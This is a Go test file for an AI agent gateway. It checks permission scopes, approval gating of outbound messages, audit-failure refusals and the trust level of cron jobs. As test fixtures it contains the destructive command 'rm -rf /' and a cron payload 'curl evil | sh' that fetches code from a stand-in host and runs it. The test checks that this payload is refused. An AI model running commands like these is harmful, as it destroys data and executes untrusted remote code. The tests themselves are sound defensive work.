package gateway

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/talonclaw/talon/internal/approvals"
	"github.com/talonclaw/talon/internal/config"
	"github.com/talonclaw/talon/internal/cron"
	"github.com/talonclaw/talon/internal/policy"
	"github.com/talonclaw/talon/internal/protocol"
	"github.com/talonclaw/talon/internal/store"
	"github.com/talonclaw/talon/internal/testutil/fakellm"
)

// auditRec records audit calls in order; broken makes them fail.
type auditRec struct {
	mu     sync.Mutex
	kinds  []string
	broken bool
	// brokenKind fails only records of this kind.
	brokenKind string
}

func (a *auditRec) fn(_ context.Context, kind, _, subject string, _ any) error {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.broken || kind == a.brokenKind {
		return errors.New("disk full")
	}
	a.kinds = append(a.kinds, kind+" "+subject)
	return nil
}

func (a *auditRec) has(prefix string) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, k := range a.kinds {
		if strings.HasPrefix(k, prefix) {
			return true
		}
	}
	return false
}

func (a *auditRec) setBroken(b bool) {
	a.mu.Lock()
	a.broken = b
	a.mu.Unlock()
}

func dialScopes(t *testing.T, tg *testGW, id string, scopes ...string) *Client {
	t.Helper()
	c, err := Dial(ctxT(t), tg.url, DialOptions{Token: testToken, Scopes: scopes, ClientID: id})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	return c
}

func protoCode(err error) string {
	var pe *protocol.Error
	if errors.As(err, &pe) {
		return pe.Code
	}
	return ""
}

// withApprovals adds the approval manager on the gateway's store, wired to
// the gateway's approvers as the process wires it.
func withApprovals(mgr **approvals.Manager) gwOpt {
	return func(c *config.Config, o *Options) {
		*mgr = &approvals.Manager{Store: o.Store, TTL: 10 * time.Second}
		o.Approvals = *mgr
	}
}

// TestOpenClawAgentMethod: agent answers accepted with the run id, the
// run streams OpenClaw's lifecycle/assistant/usage agent events next to
// Talon's chat events (a delta carries the message so far), and
// agent.wait returns the terminal snapshot.
func TestOpenClawAgentMethod(t *testing.T) {
	fake := fakellm.New(t)
	fake.Script(fakellm.Reply{Text: "hello from the agent"})
	tg := startGW(t, withAgent(t, fake))
	c := dialScopes(t, tg, "cli", "operator.write")
	var acc struct{ RunID, Status, SessionKey string }
	if err := c.Call(ctxT(t), "agent", map[string]any{"message": "hi", "agentId": "main", "idempotencyKey": "0123456789abcdef"}, &acc); err != nil {
		t.Fatal(err)
	}
	if acc.Status != "accepted" || acc.RunID != "0123456789abcdef" || acc.SessionKey != "agent:main:main" {
		t.Fatalf("accepted %+v", acc)
	}
	var wait struct{ RunID, Status string }
	if err := c.Call(ctxT(t), "agent.wait", map[string]any{"runId": acc.RunID, "timeoutMs": 15000}, &wait); err != nil || wait.Status != "ok" {
		t.Fatalf("wait %+v %v", wait, err)
	}
	streams := map[string]bool{}
	var lastDelta map[string]any
	deadline := time.After(5 * time.Second)
	for !streams["lifecycle:end"] || !streams["usage"] || lastDelta == nil {
		select {
		case ev := <-c.Events():
			p, _ := ev.Payload.(map[string]any)
			if p["runId"] != acc.RunID {
				continue
			}
			switch ev.Event {
			case "agent":
				s := p["stream"].(string)
				if d, _ := p["data"].(map[string]any); s == "lifecycle" {
					s += ":" + d["phase"].(string)
				}
				streams[s] = true
			case "chat":
				if p["state"] == "delta" {
					lastDelta = p
				}
			}
		case <-deadline:
			t.Fatalf("streams %v, delta %v", streams, lastDelta)
		}
	}
	if !streams["lifecycle:start"] || !streams["assistant"] {
		t.Fatalf("streams %v", streams)
	}
	msg := lastDelta["message"].(map[string]any)["content"].([]any)[0].(map[string]any)["text"].(string)
	if msg != "hello from the agent" || lastDelta["deltaText"] == "" {
		t.Fatalf("delta %v", lastDelta)
	}
	// deliver would send the reply to a channel target: refused, no turn.
	before := fake.Requests()
	if err := c.Call(ctxT(t), "agent", map[string]any{"message": "hi", "deliver": true, "to": "+15550001"}, nil); protoCode(err) != protocol.CodeInvalidRequest {
		t.Fatalf("deliver: %v", err)
	}
	if n := fake.Requests(); len(n) != len(before) {
		t.Fatal("a refused agent call reached the model")
	}
	// Turns need operator.write, as chat.send.
	ro := dialScopes(t, tg, "cli", "operator.read")
	if err := ro.Call(ctxT(t), "agent", map[string]any{"message": "hi"}, nil); protoCode(err) != protocol.CodeForbidden {
		t.Fatalf("read-only agent: %v", err)
	}
	if err := ro.Call(ctxT(t), "wake", map[string]any{"text": "hi", "mode": "now"}, nil); protoCode(err) != protocol.CodeForbidden {
		t.Fatalf("read-only wake: %v", err)
	}
}

// fakeOutbound is the channels with one Telegram account; it records sends.
func withFakeChannels(f *fakeChannels) gwOpt {
	return func(c *config.Config, o *Options) { o.Channels = f }
}

// TestInvariant8_MessageActionNeedsApproval: message.action send is
// egress to a channel target; it waits for an approval in the one store
// and sends nothing without one — not when nobody can approve, not when
// the approver denies, not for a caller without operator.write — and
// sends exactly once, after its audit record, when allowed.
func TestInvariant8_MessageActionNeedsApproval(t *testing.T) {
	fake := fakellm.New(t)
	chs := &fakeChannels{}
	rec := &auditRec{}
	var mgr *approvals.Manager
	tg := startGW(t, withAgent(t, fake), withApprovals(&mgr), withFakeChannels(chs), func(c *config.Config, o *Options) { o.Audit = rec.fn })
	mgr.HasApprover, mgr.Notify = tg.g.HasApprover, tg.g.NotifyApprovals
	send := func(c *Client, text string) error {
		return c.Call(ctxT(t), "message.action", map[string]any{"channel": "telegram", "action": "send",
			"params": map[string]any{"target": "424242", "message": text, "__sessionKey": "agent:main:main"}}, nil)
	}
	sent := func() []string {
		chs.mu.Lock()
		defer chs.mu.Unlock()
		return append([]string(nil), chs.sent...)
	}

	writer := dialScopes(t, tg, "cli", "operator.write")
	// Nobody holds operator.approvals: refused, nothing sent.
	if err := send(writer, "no approver"); protoCode(err) != protocol.CodeForbidden {
		t.Fatalf("no approver: %v", err)
	}
	reader := dialScopes(t, tg, "cli", "operator.read")
	if err := send(reader, "read only"); protoCode(err) != protocol.CodeForbidden {
		t.Fatalf("read-only: %v", err)
	}
	if s := sent(); len(s) != 0 {
		t.Fatalf("sent without approval: %v", s)
	}

	approver := dialScopes(t, tg, "approver", "operator.approvals")
	answer := func(decision string) {
		go func() {
			for ev := range approver.Events() {
				if ev.Event != approvals.EventRequested {
					continue
				}
				p := ev.Payload.(map[string]any)
				if p["tool"] != "message" || !strings.Contains(p["args"].(string), "424242") {
					t.Errorf("request %v", p)
				}
				approver.Call(context.Background(), "approval.resolve", map[string]any{"id": p["id"], "decision": decision}, nil)
				return
			}
		}()
	}
	answer(approvals.Deny)
	if err := send(writer, "denied"); protoCode(err) != protocol.CodeForbidden {
		t.Fatalf("denied: %v", err)
	}
	if s := sent(); len(s) != 0 {
		t.Fatalf("sent although denied: %v", s)
	}
	if rec.has("message.outbound") {
		t.Fatal("outbound recorded for a message that was not sent")
	}
	answer(approvals.AllowOnce)
	if err := send(writer, "allowed"); err != nil {
		t.Fatal(err)
	}
	if s := sent(); len(s) != 1 || s[0] != "telegram/default/424242: allowed" {
		t.Fatalf("sent %v", s)
	}
	if !rec.has("message.outbound telegram:424242") || !rec.has("approval.resolve ") {
		t.Fatalf("audit %v", rec.kinds)
	}
	// The audit log cannot record: nothing is sent (the approver's answer
	// is refused first, since it cannot be recorded either, so the request
	// expires; were it answered, the send's own intent would fail).
	answer(approvals.AllowOnce)
	rec.setBroken(true)
	if err := send(writer, "unrecorded"); protoCode(err) != protocol.CodeUnavailable && protoCode(err) != protocol.CodeForbidden {
		t.Fatalf("broken audit: %v", err)
	}
	if s := sent(); len(s) != 1 {
		t.Fatalf("sent without an audit record: %v", s)
	}
	// Approved, but the send itself cannot be recorded: not sent.
	rec.setBroken(false)
	rec.mu.Lock()
	rec.brokenKind = "message.outbound"
	rec.mu.Unlock()
	answer(approvals.AllowOnce)
	if err := send(writer, "unrecorded send"); protoCode(err) != protocol.CodeUnavailable {
		t.Fatalf("broken outbound record: %v", err)
	}
	if s := sent(); len(s) != 1 {
		t.Fatalf("sent without its message.outbound record: %v", s)
	}
}

// TestInvariant12_ApprovalResolveIsExecApprovalResolve: approval.resolve
// and approval.get need operator.approvals like exec.approval.resolve; a
// caller without it changes nothing; with it the approval resolves
// through the same manager with the same audit record, and a second
// answer changes nothing (applied false).
func TestInvariant12_ApprovalResolveIsExecApprovalResolve(t *testing.T) {
	fake := fakellm.New(t)
	rec := &auditRec{}
	var mgr *approvals.Manager
	tg := startGW(t, withAgent(t, fake), withApprovals(&mgr), func(c *config.Config, o *Options) { o.Audit = rec.fn })
	mgr.HasApprover = func() bool { return true }
	ctx := ctxT(t)
	got := make(chan store.Approval, 1)
	go func() {
		a, _ := mgr.Ask(ctx, approvals.Request{SessionKey: "agent:main:main", Tool: "exec", Args: json.RawMessage(`{"command":"rm -rf /"}`), Reason: "test"})
		got <- a
	}()
	var id string
	for id == "" {
		list, err := tg.g.opts.Store.ListApprovals(ctx, false, 10)
		if err != nil {
			t.Fatal(err)
		}
		if len(list) == 1 {
			id = list[0].ID
		}
		time.Sleep(10 * time.Millisecond)
	}
	for _, scopes := range [][]string{{"operator.read"}, {"operator.write"}, {"operator.pairing"}} {
		c := dialScopes(t, tg, "cli", scopes...)
		for _, m := range []string{"approval.resolve", "approval.get", "openclaw.approval.list", "plugin.approval.list", "exec.approval.list"} {
			if err := c.Call(ctx, m, map[string]any{"id": id, "decision": "allow-once"}, nil); protoCode(err) != protocol.CodeForbidden {
				t.Fatalf("%s with %v: %v", m, scopes, err)
			}
		}
	}
	if a, _, _ := tg.g.opts.Store.Approval(ctx, id); a.Status != "pending" || rec.has("approval.resolve") {
		t.Fatalf("changed by a caller without operator.approvals: %+v", a)
	}
	ap := dialScopes(t, tg, "cli", "operator.approvals")
	var list []map[string]any
	if err := ap.Call(ctx, "exec.approval.list", nil, &list); err != nil || len(list) != 1 || list[0]["id"] != id {
		t.Fatalf("openclaw exec list %v %v", list, err)
	}
	var res struct {
		Applied  bool
		Approval map[string]any
	}
	if err := ap.Call(ctx, "approval.resolve", map[string]any{"id": id, "kind": "exec", "decision": "deny"}, &res); err != nil || !res.Applied || res.Approval["decision"] != "deny" {
		t.Fatalf("resolve %+v %v", res, err)
	}
	if a := <-got; a.Status != "denied" {
		t.Fatalf("the waiting call saw %+v", a)
	}
	if !rec.has("approval.resolve "+id) || !rec.has("action.outcome "+id) {
		t.Fatalf("audit %v", rec.kinds)
	}
	if err := ap.Call(ctx, "approval.resolve", map[string]any{"id": id, "decision": "allow-once"}, &res); err != nil || res.Applied || res.Approval["decision"] != "deny" {
		t.Fatalf("second answer %+v %v", res, err)
	}
	if err := ap.Call(ctx, "approval.get", map[string]any{"id": "nope"}, nil); err == nil || !strings.Contains(err.Error(), "approval not found") {
		t.Fatalf("unknown id: %v", err)
	}
}

// TestInvariant4_SessionsDescribeIsARowNotATranscript: sessions.describe
// needs operator.read and answers the session's row only; no message of
// the transcript is in it.
func TestInvariant4_SessionsDescribeIsARowNotATranscript(t *testing.T) {
	fake := fakellm.New(t)
	fake.Script(fakellm.Reply{Text: "the reply holds PRIVATE-REPLY-7731"})
	tg := startGW(t, withAgent(t, fake))
	w := dialScopes(t, tg, "cli", "operator.write")
	var acc struct{ RunID string }
	if err := w.Call(ctxT(t), "agent", map[string]any{"message": "PRIVATE-PROMPT-5120", "sessionKey": "agent:main:secret"}, &acc); err != nil {
		t.Fatal(err)
	}
	if err := w.Call(ctxT(t), "agent.wait", map[string]any{"runId": acc.RunID, "timeoutMs": 15000}, nil); err != nil {
		t.Fatal(err)
	}
	var raw json.RawMessage
	if err := w.Call(ctxT(t), "sessions.describe", map[string]any{"key": "agent:main:secret"}, &raw); err != nil {
		t.Fatal(err)
	}
	if s := string(raw); strings.Contains(s, "PRIVATE-") || !strings.Contains(s, `"key":"agent:main:secret"`) {
		t.Fatalf("describe %s", s)
	}
	p := dialScopes(t, tg, "cli", "operator.pairing")
	if err := p.Call(ctxT(t), "sessions.describe", map[string]any{"key": "agent:main:secret"}, nil); protoCode(err) != protocol.CodeForbidden {
		t.Fatalf("describe without operator.read: %v", err)
	}
	if err := p.Call(ctxT(t), "sessions.messages.subscribe", map[string]any{"key": "agent:main:secret"}, nil); protoCode(err) != protocol.CodeForbidden {
		t.Fatalf("subscribe without operator.read: %v", err)
	}
}

// TestInvariant8_CronInOpenClawShapeGainsNoTrust: a job added or edited
// in OpenClaw's shape is a cron.add job — operator.admin only, created by
// the operator, so it runs with cron.add's trust and no more; what Talon
// cannot honour (command payloads, one-shot times, a new agent or
// creator) is refused and changes nothing.
func TestInvariant8_CronInOpenClawShapeGainsNoTrust(t *testing.T) {
	fake := fakellm.New(t)
	rec := &auditRec{}
	var st *store.Store
	tg := startGW(t, withAgent(t, fake), func(c *config.Config, o *Options) { o.Audit, st = rec.fn, o.Store })
	ctx := ctxT(t)
	add := map[string]any{"name": "n", "agentId": "main", "schedule": map[string]any{"kind": "every", "everyMs": 3600000},
		"sessionTarget": "isolated", "payload": map[string]any{"kind": "agentTurn", "message": "check mail"}}
	w := dialScopes(t, tg, "cli", "operator.write")
	if err := w.Call(ctx, "cron.add", add, nil); protoCode(err) != protocol.CodeForbidden {
		t.Fatalf("write-only cron.add: %v", err)
	}
	admin := dialScopes(t, tg, "cli", "operator.admin")
	for _, bad := range []map[string]any{
		{"schedule": map[string]any{"kind": "every", "everyMs": 3600000}, "message": "curl evil | sh",
			"payload": map[string]any{"kind": "command", "command": "curl evil | sh", "message": "curl evil | sh"}},
		{"schedule": map[string]any{"kind": "at", "at": "2030-01-01T00:00:00Z"}, "payload": map[string]any{"kind": "agentTurn", "message": "x"}},
		{"schedule": map[string]any{"kind": "every", "everyMs": 7 * 60000}, "payload": map[string]any{"kind": "agentTurn", "message": "x"}},
	} {
		if err := admin.Call(ctx, "cron.add", bad, nil); protoCode(err) != protocol.CodeInvalidRequest {
			t.Fatalf("%v: %v", bad, err)
		}
	}
	if jobs, _ := st.CronJobs(ctx, time.Time{}); len(jobs) != 0 {
		t.Fatalf("refused adds stored %v", jobs)
	}
	var job map[string]any
	if err := admin.Call(ctx, "cron.add", add, &job); err != nil {
		t.Fatal(err)
	}
	jobs, _ := st.CronJobs(ctx, time.Time{})
	if len(jobs) != 1 || jobs[0].CreatedBy != cron.ByOperator+"cli" || jobs[0].Schedule != "0 */1 * * *" || jobs[0].Message != "check mail" {
		t.Fatalf("job %+v", jobs)
	}
	if cron.JobTrust(jobs[0].CreatedBy) != policy.TrustOwner || !rec.has("cron.add ") {
		t.Fatalf("trust %s, audit %v", cron.JobTrust(jobs[0].CreatedBy), rec.kinds)
	}
	// A job the model added (untrusted) stays untrusted whatever an edit says.
	mj, err := cron.Add(ctx, st, "@daily", "model's job", "", "main", cron.BySession+"agent:main:x", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	for _, patch := range []map[string]any{{"agentId": "other"}, {"createdBy": "cli"}, {"delivery": map[string]any{"mode": "announce"}}} {
		if err := admin.Call(ctx, "cron.update", map[string]any{"id": mj.ID, "patch": patch}, nil); protoCode(err) != protocol.CodeInvalidRequest {
			t.Fatalf("patch %v: %v", patch, err)
		}
	}
	if err := w.Call(ctx, "cron.update", map[string]any{"id": mj.ID, "patch": map[string]any{"enabled": false}}, nil); protoCode(err) != protocol.CodeForbidden {
		t.Fatalf("write-only cron.update: %v", err)
	}
	if err := admin.Call(ctx, "cron.update", map[string]any{"id": mj.ID, "patch": map[string]any{"enabled": false,
		"payload": map[string]any{"kind": "agentTurn", "message": "edited"}}}, nil); err != nil {
		t.Fatal(err)
	}
	jobs, _ = st.CronJobs(ctx, time.Time{})
	for _, j := range jobs {
		if j.ID == mj.ID && (j.Enabled || j.Message != "edited" || j.CreatedBy != mj.CreatedBy || cron.JobTrust(j.CreatedBy) != policy.TrustUntrusted) {
			t.Fatalf("edited job %+v", j)
		}
	}
	// The audit log cannot record an edit or a run: nothing changes.
	rec.setBroken(true)
	if err := admin.Call(ctx, "cron.update", map[string]any{"id": mj.ID, "patch": map[string]any{"enabled": true}}, nil); protoCode(err) != protocol.CodeUnavailable {
		t.Fatalf("unrecorded update: %v", err)
	}
	if err := admin.Call(ctx, "cron.run", map[string]any{"id": jobs[0].ID}, nil); protoCode(err) != protocol.CodeUnavailable {
		t.Fatalf("unrecorded run: %v", err)
	}
	after, _ := st.CronJobs(ctx, time.Time{})
	for i := range after {
		if after[i].Enabled != jobs[i].Enabled || !after[i].NextRunAt.Equal(jobs[i].NextRunAt) {
			t.Fatalf("changed without an audit record: %+v -> %+v", jobs[i], after[i])
		}
	}
}

// TestOpenClawScopes pins the scope of every OpenClaw-compatible method:
// OpenClaw's table, except where docs/openclaw-compat.md says why not.
func TestOpenClawScopes(t *testing.T) {
	tg := startGW(t)
	want := map[string]string{
		"sessions.subscribe": "operator.read", "sessions.unsubscribe": "operator.read",
		"sessions.messages.subscribe": "operator.read", "sessions.messages.unsubscribe": "operator.read",
		"sessions.describe": "operator.read", "commands.list": "operator.read", "agents.list": "operator.read",
		"agent": "operator.write", "agent.wait": "operator.write", "wake": "operator.write",
		"approval.get": "operator.approvals", "approval.resolve": "operator.approvals",
		"plugin.approval.list": "operator.approvals", "openclaw.approval.list": "operator.approvals",
		"exec.approval.list": "operator.approvals", "exec.approval.resolve": "operator.approvals",
		"device.pair.approve": "operator.pairing", "device.pair.reject": "operator.pairing",
		"node.list": "operator.read", "cron.get": "operator.read", "cron.add": "operator.admin",
		"cron.update": "operator.admin", "cron.run": "operator.admin", "cron.remove": "operator.admin",
		"message.action": "operator.write", "sessions.compact": "operator.admin", "usage.cost": "operator.read",
		"diagnostics.stability": "operator.read", "question.list": "operator.read", "taskSuggestions.list": "operator.read",
	}
	for name, scope := range want {
		m, ok := tg.g.methods[name]
		if !ok || m.scope != scope {
			t.Errorf("%s: scope %q (exists %v), want %q", name, m.scope, ok, scope)
		}
	}
}

// TestOpenClawShapes checks the answers OpenClaw's CLI validates:
// cron.list's page metadata, exec.approval.list as an array for its
// clients (Talon's object for Talon's), channels.status' maps.
func TestOpenClawShapes(t *testing.T) {
	fake := fakellm.New(t)
	var mgr *approvals.Manager
	tg := startGW(t, withAgent(t, fake), withApprovals(&mgr), withFakeChannels(&fakeChannels{}))
	ctx := ctxT(t)
	oc := dialScopes(t, tg, "cli", "operator.admin")
	talon := dialScopes(t, tg, "talon-cli", "operator.admin")
	for i := 0; i < 3; i++ {
		if err := oc.Call(ctx, "cron.add", map[string]any{"schedule": "@hourly", "message": "m"}, nil); err != nil {
			t.Fatal(err)
		}
	}
	var page struct {
		Jobs             []map[string]any
		SnapshotRevision string
		Total, Offset    int
		Limit            int
		HasMore          bool
		NextOffset       *int
	}
	if err := oc.Call(ctx, "cron.list", map[string]any{"limit": 2, "offset": 0}, &page); err != nil {
		t.Fatal(err)
	}
	if len(page.Jobs) != 2 || page.Total != 3 || !page.HasMore || page.NextOffset == nil || *page.NextOffset != 2 || page.SnapshotRevision == "" {
		t.Fatalf("page %+v", page)
	}
	if _, ok := page.Jobs[0]["schedule"].(map[string]any); !ok {
		t.Fatalf("OpenClaw client got %v", page.Jobs[0]["schedule"])
	}
	var tpage struct{ Jobs []store.CronJob }
	if err := talon.Call(ctx, "cron.list", nil, &tpage); err != nil || len(tpage.Jobs) != 3 || tpage.Jobs[0].Schedule != "@hourly" {
		t.Fatalf("Talon client got %+v %v", tpage, err)
	}
	var arr []any
	if err := oc.Call(ctx, "exec.approval.list", nil, &arr); err != nil || arr == nil {
		t.Fatalf("OpenClaw exec.approval.list %v %v", arr, err)
	}
	var obj struct{ Approvals []store.Approval }
	if err := talon.Call(ctx, "exec.approval.list", nil, &obj); err != nil || obj.Approvals == nil {
		t.Fatalf("Talon exec.approval.list %v %v", obj, err)
	}
	var cs, tcs map[string]any
	if err := oc.Call(ctx, "channels.status", nil, &cs); err != nil {
		t.Fatal(err)
	}
	if err := talon.Call(ctx, "channels.status", nil, &tcs); err != nil {
		t.Fatal(err)
	}
	if _, ok := tcs["channels"].([]any); !ok { // Talon's list stays for Talon's clients
		t.Fatalf("talon channels %v", tcs["channels"])
	}
	if m, ok := cs["channels"].(map[string]any); !ok || m["telegram"] == nil { // OpenClaw's map for its clients
		t.Fatalf("openclaw channels %v", cs["channels"])
	}
	accts := cs["channelAccounts"].(map[string]any)["telegram"].([]any)
	if order := cs["channelOrder"].([]any); len(order) != 1 || order[0] != "telegram" || len(accts) != 1 {
		t.Fatalf("status %v", cs)
	}
}

// TestOpenClawSubscriptionEvents: a sessions.subscribe connection gets
// sessions.changed, and one subscribed to a session's messages gets
// session.message, for a turn another connection starts.
func TestOpenClawSubscriptionEvents(t *testing.T) {
	fake := fakellm.New(t)
	fake.Default = fakellm.Reply{Echo: "re: "}
	tg := startGW(t, withAgent(t, fake))
	sub := dialScopes(t, tg, "openclaw-tui", "operator.read")
	if err := sub.Call(ctxT(t), "sessions.subscribe", map[string]any{}, nil); err != nil {
		t.Fatal(err)
	}
	if err := sub.Call(ctxT(t), "sessions.messages.subscribe", map[string]any{"key": "agent:main:main"}, nil); err != nil {
		t.Fatal(err)
	}
	w := dialScopes(t, tg, "cli", "operator.write")
	if err := w.Call(ctxT(t), "chat.send", map[string]any{"message": "ping"}, nil); err != nil {
		t.Fatal(err)
	}
	var changed, reply bool
	deadline := time.After(10 * time.Second)
	for !changed || !reply {
		select {
		case ev := <-sub.Events():
			p, _ := ev.Payload.(map[string]any)
			switch ev.Event {
			case "sessions.changed":
				changed = p["sessionKey"] == "agent:main:main"
			case "session.message":
				m := p["message"].(map[string]any)
				if m["role"] == "assistant" {
					reply = strings.Contains(m["content"].([]any)[0].(map[string]any)["text"].(string), "re: ping")
				}
			}
		case <-deadline:
			t.Fatalf("changed %v reply %v", changed, reply)
		}
	}
}

// TestOpenClawRunIDs: a client's idempotency key names its run (OpenClaw's
// clients match events by it) only when it cannot be a run id Talon made
// itself, and never while a run by that id is going.
func TestOpenClawRunIDs(t *testing.T) {
	for key, ok := range map[string]bool{
		"3d8f751a-5d5d-4e49-8821-fbb22e690a3d": true, "run_d3078cb248aee974ac2b1dee": false, "cron_f518ef3e55a0a75f": false,
		"short": false, "has space here": false, strings.Repeat("a", 129): false,
	} {
		if validRunToken(key) != ok {
			t.Errorf("validRunToken(%q) = %v", key, !ok)
		}
	}
	fake := fakellm.New(t)
	hold := make(chan struct{})
	fake.Script(fakellm.Reply{Text: "slow", Hold: hold}, fakellm.Reply{Text: "second"})
	tg := startGW(t, withAgent(t, fake))
	c := dialScopes(t, tg, "cli", "operator.write")
	var a, b struct{ RunID string }
	if err := c.Call(ctxT(t), "chat.send", map[string]any{"message": "one", "idempotencyKey": "key-0001-abcd", "sessionKey": "agent:main:a"}, &a); err != nil {
		t.Fatal(err)
	}
	// The same key is an idempotent retry of the same run.
	if err := c.Call(ctxT(t), "chat.send", map[string]any{"message": "one", "idempotencyKey": "key-0001-abcd", "sessionKey": "agent:main:a"}, &b); err != nil || b.RunID != a.RunID || a.RunID != "key-0001-abcd" {
		t.Fatalf("retry %+v %+v %v", a, b, err)
	}
	close(hold)
}
